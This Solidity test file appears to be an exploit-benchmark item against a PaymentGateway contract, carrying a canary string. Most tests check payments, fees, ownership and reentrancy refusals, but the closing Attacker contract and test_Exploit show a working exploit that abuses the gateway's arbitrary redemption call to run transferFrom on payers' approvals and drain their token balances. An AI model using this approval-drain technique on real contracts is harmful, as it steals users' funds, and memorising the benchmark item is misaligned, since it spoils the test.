// SPDX-License-Identifier: BUSL-1.1
pragma solidity 0.8.24;

import "./PaymentGateway.sol";
import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";

// assay-canary-dd548fdb-ff40-4c29-bc1b-4e8879dfe200

interface Vm {
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function deal(address to, uint256 amount) external;
    function expectRevert() external;
    function expectRevert(bytes calldata reason) external;
}

contract Dollar is ERC20 {
    constructor() ERC20("Dollar", "USD") {
        _mint(msg.sender, 3_300_000e6);
    }
}

contract WrappedEther is ERC20 {
    constructor() ERC20("Wrapped Ether", "WETH") {}

    receive() external payable {
        _mint(msg.sender, msg.value);
    }

    function redeem(uint256 amount, address payable to) external {
        _burn(msg.sender, amount);
        (bool ok, ) = to.call{value: amount}("");
        require(ok, "not sent");
    }
}

/// A merchant that orders once more while it is paid, and keeps the answer.
contract Caller {
    PaymentGateway internal gateway;
    bytes public answer;

    constructor(PaymentGateway gateway_) {
        gateway = gateway_;
    }

    receive() external payable {
        PaymentGateway.Order memory none;
        none.wrapper = address(this);
        none.redemption = abi.encodeWithSelector(this.redeem.selector);
        (, answer) = address(gateway).call(abi.encodeCall(PaymentGateway.payInEther, (none)));
    }

    function redeem() external pure {}

    function transferFrom(address, address, uint256) external pure returns (bool) {
        return true;
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant MERCHANT = address(0x5309);
    address internal constant ANA = address(0xA9A);
    address internal constant BEN = address(0xBE9);

    Dollar internal usd;
    WrappedEther internal weth;
    PaymentGateway internal gateway;
    Attacker internal mallory;

    function setUp() public {
        usd = new Dollar();
        weth = new WrappedEther();
        gateway = new PaymentGateway();
        gateway.setFee(50);
        gateway.registerWrapper(address(weth), WrappedEther.redeem.selector);
        usd.transfer(ANA, 2_000_000e6);
        usd.transfer(BEN, 1_300_000e6);
        vm.deal(address(this), 20 ether);
        (bool ok, ) = address(weth).call{value: 20 ether}("");
        require(ok, "wrapped");
        weth.transfer(ANA, 20 ether);
        vm.startPrank(ANA);
        usd.approve(address(gateway), type(uint256).max);
        weth.approve(address(gateway), type(uint256).max);
        vm.stopPrank();
        vm.prank(BEN);
        usd.approve(address(gateway), type(uint256).max);
        mallory = new Attacker(gateway, usd);
    }

    function order(uint256 amount, uint256 price) internal view returns (PaymentGateway.Order memory) {
        return
            PaymentGateway.Order({
                wrapper: address(weth),
                amount: amount,
                redemption: abi.encodeCall(WrappedEther.redeem, (amount, payable(address(gateway)))),
                merchant: MERCHANT,
                price: price,
                reference_: "invoice 8"
            });
    }

    function test_Regular() public {
        vm.prank(BEN);
        gateway.payInToken(usd, MERCHANT, 250e6, "invoice 7");
        require(usd.balanceOf(MERCHANT) == 250e6, "paid in dollars");

        PaymentGateway.Order memory o = order(3 ether, 2 ether);
        require(gateway.canPay(ANA, o) && !gateway.canPay(BEN, o), "can pay");
        vm.prank(ANA);
        gateway.payInEther(o);
        require(MERCHANT.balance == 1.99 ether && gateway.collectedFees() == 0.01 ether, "paid in ether");
        require(ANA.balance == 1 ether, "rest");

        o.price = 4 ether;
        vm.prank(ANA);
        (bool ok, ) = address(gateway).call(abi.encodeCall(PaymentGateway.payInEther, (o)));
        require(!ok, "too little");
        gateway.withdrawFees(address(0xC0));
        require(address(0xC0).balance == 0.01 ether, "fees");

        gateway.transferOwnership(ANA);
        vm.startPrank(ANA);
        gateway.acceptOwnership();
        require(gateway.owner() == ANA, "owner");
        gateway.renounceOwnership();
        vm.stopPrank();
    }

    function test_RefusesStrangers() public {
        bytes memory why = abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, BEN);
        vm.startPrank(BEN);
        vm.expectRevert(why);
        gateway.setFee(0);
        vm.expectRevert(why);
        gateway.registerWrapper(address(usd), usd.transferFrom.selector);
        vm.expectRevert(why);
        gateway.withdrawFees(BEN);
        vm.expectRevert(why);
        gateway.acceptOwnership();
        vm.stopPrank();
        gateway.setFee(100);
        vm.expectRevert(abi.encodeWithSelector(FeeCollector.FeeTooHigh.selector, 101));
        gateway.setFee(101);
    }

    function test_RefusesPaymentsThatFail() public {
        vm.prank(BEN);
        vm.expectRevert();
        gateway.payInToken(usd, MERCHANT, 1_300_000e6 + 1, 0);
        // the token takes no ether: neither as a merchant nor for the fees
        PaymentGateway.Order memory o = order(2 ether, 2 ether);
        o.merchant = address(usd);
        vm.prank(ANA);
        vm.expectRevert(abi.encodeWithSelector(FeeCollector.EtherRefused.selector, address(usd)));
        gateway.payInEther(o);
        o.merchant = MERCHANT;
        vm.prank(ANA);
        gateway.payInEther(o);
        vm.expectRevert(abi.encodeWithSelector(FeeCollector.EtherRefused.selector, address(usd)));
        gateway.withdrawFees(address(usd));
    }

    function test_RefusesRedemptionsThatFail() public {
        PaymentGateway.Order memory o = order(0, 0);
        o.redemption = abi.encodeCall(WrappedEther.redeem, (1 ether, payable(address(gateway)))); // more than it was given
        vm.prank(ANA);
        vm.expectRevert(abi.encodeWithSelector(PaymentGateway.RedemptionFailed.selector, address(weth)));
        gateway.payInEther(o);
    }

    function test_RefusesTooLittle() public {
        vm.deal(address(gateway), 10 ether); // ether of others, which would pay for what is missing
        PaymentGateway.Order memory o = order(2 ether, 3 ether);
        vm.prank(ANA);
        vm.expectRevert(abi.encodeWithSelector(PaymentGateway.NotEnoughReceived.selector, 2 ether));
        gateway.payInEther(o);
        o = order(2 ether, 1 ether);
        o.amount = 3 ether; // of which only two are redeemed
        vm.prank(ANA);
        vm.expectRevert(abi.encodeWithSelector(PaymentGateway.NotEnoughReceived.selector, 2 ether));
        gateway.payInEther(o);
    }

    function test_RefusesAnOrderWithinAnOrder() public {
        Caller caller = new Caller(gateway);
        gateway.registerWrapper(address(caller), Caller.redeem.selector);
        PaymentGateway.Order memory o = order(2 ether, 2 ether);
        o.merchant = address(caller);
        vm.prank(ANA);
        gateway.payInEther(o);
        require(bytes4(caller.answer()) == ReentrancyGuard.ReentrancyGuardReentrantCall.selector, "one order at a time");
    }

    function exploit() public {
        mallory.take(ANA);
        mallory.take(BEN);
    }

    function test_Exploit() public {
        uint256 before = payersHold();
        exploit();
        require(payersHold() + 3_300_000e6 <= before, "nothing lost");
    }

    function payersHold() public view returns (uint256) {
        return usd.balanceOf(ANA) + usd.balanceOf(BEN);
    }

    function target() public view returns (address) {
        return address(gateway);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    PaymentGateway internal gateway;
    Dollar internal usd;

    constructor(PaymentGateway gateway_, Dollar usd_) {
        gateway = gateway_;
        usd = usd_;
    }

    function take(address from) external {
        bytes memory data = abi.encodeCall(usd.transferFrom, (from, address(this), usd.balanceOf(from)));
        gateway.payInEther(PaymentGateway.Order(address(usd), 0, data, address(this), 0, 0));
    }
}
